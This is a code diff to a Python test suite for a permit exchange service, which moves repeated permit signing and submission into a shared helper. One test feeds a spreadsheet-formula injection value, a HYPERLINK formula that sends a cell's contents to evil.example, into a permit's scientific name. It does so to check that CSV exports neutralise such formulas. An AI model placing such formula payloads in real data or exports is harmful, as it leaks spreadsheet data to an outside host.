@@ -24,6 +24,7 @@ from epix.auth.principal import Role
 from epix.cli.main import cli
 from epix.compliance.taxonomy import taxonomy
 from epix.exchange.models import Message, Permit
+from epix.permits.model import Permit as PermitModel
 from epix.permits.samples import demo_permit
 from epix.permits.writer import write_permit
 from epix.registry import service as registry_service
@@ -54,9 +55,15 @@ class Trade:
 
 
 async def _submit(client: httpx.AsyncClient, node: Node, number: str) -> None:
+    await _submit_permit(client, node, demo_permit(number=number, lines=2))
+
+
+async def _submit_permit(client: httpx.AsyncClient, node: Node, permit: PermitModel) -> None:
+    """``permit`` signed by XA's Management Authority and submitted for XB."""
+    key_pem, cert_pem = node.demo.signing_identity("XA")
     response = await client.post(
         "/v1/messages",
-        content=node.signed_permit(number=number, lines=2),
+        content=sign_document(write_permit(permit), key_pem, cert_pem),
         headers=headers(node.key("XA", MA)),
     )
     assert response.status_code == 201, response.text
@@ -356,13 +363,7 @@ async def test_a_permit_counts_in_the_year_of_its_box_13_date(
         valid_from=issued,
         valid_until=datetime(THIS_YEAR, 12, 31, 23, 59, tzinfo=issued.tzinfo),
     )
-    key_pem, cert_pem = node.demo.signing_identity("XA")
-    sent = await client.post(
-        "/v1/messages",
-        content=sign_document(write_permit(permit), key_pem, cert_pem),
-        headers=headers(node.key("XA", MA)),
-    )
-    assert sent.status_code == 201, sent.text
+    await _submit_permit(client, node, permit)
     this_year = await client.get(f"/v1/reports/annual/XA/{THIS_YEAR}", headers=auth(node, "XA", MA))
     last_year = await client.get(
         f"/v1/reports/annual/XA/{THIS_YEAR - 1}", headers=auth(node, "XA", MA)
@@ -381,13 +382,7 @@ async def test_csv_cells_from_another_partys_permit_are_never_spreadsheet_formul
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Python reticulatus")'
     permit = demo_permit(number="XA-AR-FORMULA", lines=1)
     permit = replace(permit, lines=(replace(permit.lines[0], scientific_name=formula),))
-    key_pem, cert_pem = node.demo.signing_identity("XA")
-    sent = await client.post(
-        "/v1/messages",
-        content=sign_document(write_permit(permit), key_pem, cert_pem),
-        headers=headers(node.key("XA", MA)),
-    )
-    assert sent.status_code == 201, sent.text
+    await _submit_permit(client, node, permit)
     await _endorse(client, node, "XA-AR-FORMULA", "import", "10")
     as_csv = await client.get(
         f"/v1/reports/annual/XB/{THIS_YEAR}", params={"format": "csv"}, headers=auth(node, "XB", MA)
